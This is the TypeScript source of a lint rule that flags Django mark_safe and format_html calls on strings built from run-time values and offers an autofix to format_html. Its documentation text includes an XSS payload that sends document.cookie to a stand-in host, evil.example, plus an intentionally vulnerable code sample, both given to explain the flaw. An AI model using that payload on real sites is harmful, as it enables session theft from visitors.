import type { Node } from 'web-tree-sitter';
import { defineRule } from '../../engine/rule';
import type { Fix, Fixer } from '../../engine/fixer';
import type { RuleContext } from '../../engine/rule';
import type { CallSite } from '../../engine/sites';
import { HOW_BUILT } from '../sql-injection/query-parts';
import { classifyHtml, describeValues, fStringTemplate, formatCallTemplate, type Template } from './html-values';
import { spellImported } from './imports';
import { MARK_SAFE_CALLS } from './mark-safe';
import { moduleOf } from './settings';

const FORMAT_HTML = 'django.utils.html.format_html';


export default defineRule({
  meta: {
    id: 'PW805',
    name: 'django-mark-safe-formatted',
    title: 'mark_safe or format_html on a string formatted with run-time values',
    category: 'web',
    // Bandit B703: MEDIUM severity, HIGH confidence, CWE-80 — for mark_safe/SafeString with an
    // argument that is not a literal and not provably built from literals. PW804 takes the
    // values whose content is not visible; this rule the strings built here from run-time
    // values, where the missing escaping is certain. No Ruff rule does this.
    severity: 'medium',
    confidence: 'high',
    cwe: 80,
    bandit: 'B703',
    // Bandit B308 and Ruff S308 report these calls too.
    alsoCovers: ['B308', 'S308'],
    fixable: true,
    fixApplicability: ['unsafe'],
    offInTests: true,
    docs: {
      what: 'Finds `mark_safe(...)` / `SafeString(...)` whose argument is built with an f-string, `%`, `.format()` or `+` from values known only at run time (directly or through a variable assigned once), and `format_html(...)` whose format string is itself built that way — which defeats the escaping `format_html` exists for.',
      why: 'The formatted values are pasted into HTML that Django then trusts: a user name of `<img src=x onerror=fetch("//evil.example/"+document.cookie)>` runs script in every visitor\'s browser (cross-site scripting), stealing sessions or acting as the victim. `format_html("<b>{}</b>", name)` escapes each value (and leaves values that are already safe HTML alone); pre-formatting the string before handing it to `format_html` or `mark_safe` skips that.',
      example: 'from django.utils.html import format_html\nfrom django.utils.safestring import mark_safe\n\ndef badge(user):\n    return mark_safe(f"<b>{user.name}</b>")\n\ndef link(url, title):\n    return format_html(\'<a href="{}">%s</a>\' % title, url)',
      safe: 'from django.utils.html import format_html\n\ndef badge(user):\n    return format_html("<b>{}</b>", user.name)\n\ndef link(url, title):\n    return format_html(\'<a href="{}">{}</a>\', url, title)',
      references: [
        'https://cwe.mitre.org/data/definitions/80.html',
        'https://cwe.mitre.org/data/definitions/79.html',
        'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html',
        'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.safestring.mark_safe',
        'https://docs.djangoproject.com/en/stable/topics/security/#cross-site-scripting-xss-protection',
      ],
    },
  },
  calls: [...MARK_SAFE_CALLS, FORMAT_HTML],

  checkCall(call, context) {
    if (call.hasStarArgs || call.hasStarKwargs) return;
    const isFormatHtml = call.qualifiedName === FORMAT_HTML;
    const argument = isFormatHtml ? call.argument(0, 'format_string') : (call.argument(0, 's') ?? call.positional(0));
    if (!argument) return;
    const value = classifyHtml(argument.value, context);
    if (value.kind !== 'built') return;
    const { built } = value;
    const through = argument.value.type === 'identifier' ? ` (\`${argument.value.text}\`)` : '';
    const message = isFormatHtml
      ? `\`${call.callee.text}\` gets a format string built from ${describeValues(built)}, unescaped (XSS); put \`{}\` in a literal.`
      : `\`${call.callee.text}\` marks HTML built from ${describeValues(built)} as safe, unescaped (XSS); use \`format_html\`.`
    context.report(call.node, {
      message,
      fix: (fixer) => formatHtmlFix(call, argument.value, isFormatHtml, context, fixer),
    });
  },
});

/**
 * `mark_safe(f"<b>{name}</b>")` / `mark_safe("<b>{}</b>".format(name))` →
 * `format_html("<b>{}</b>", name)`; `format_html(f"<b>{x}</b>")` likewise; with further arguments
 * it is not rewritten (the placeholders would change position). Not preferred: values that were plain strings holding HTML on purpose
 * are escaped afterwards (values that are already safe HTML are not).
 */
function formatHtmlFix(call: CallSite, value: Node, isFormatHtml: boolean, context: RuleContext, fixer: Fixer): Fix[] {
  if (call.arguments.length !== 1) return [];
  const template: Template | undefined = fStringTemplate(value) ?? formatCallTemplate(value, context);
  if (!template) return [];
  const spelled = isFormatHtml ? { text: call.callee.text, edits: [] } : spellImported(FORMAT_HTML, call.node, moduleOf(call.node), context, fixer);
  if (!spelled) return [];
  const rewritten = `${spelled.text}(${[template.template, ...template.values].join(', ')})`;
  return [fixer.unsafe('Use format_html so the values are escaped', 'values holding HTML on purpose are escaped too', [...spelled.edits, fixer.replace(call.node, rewritten)])];
}
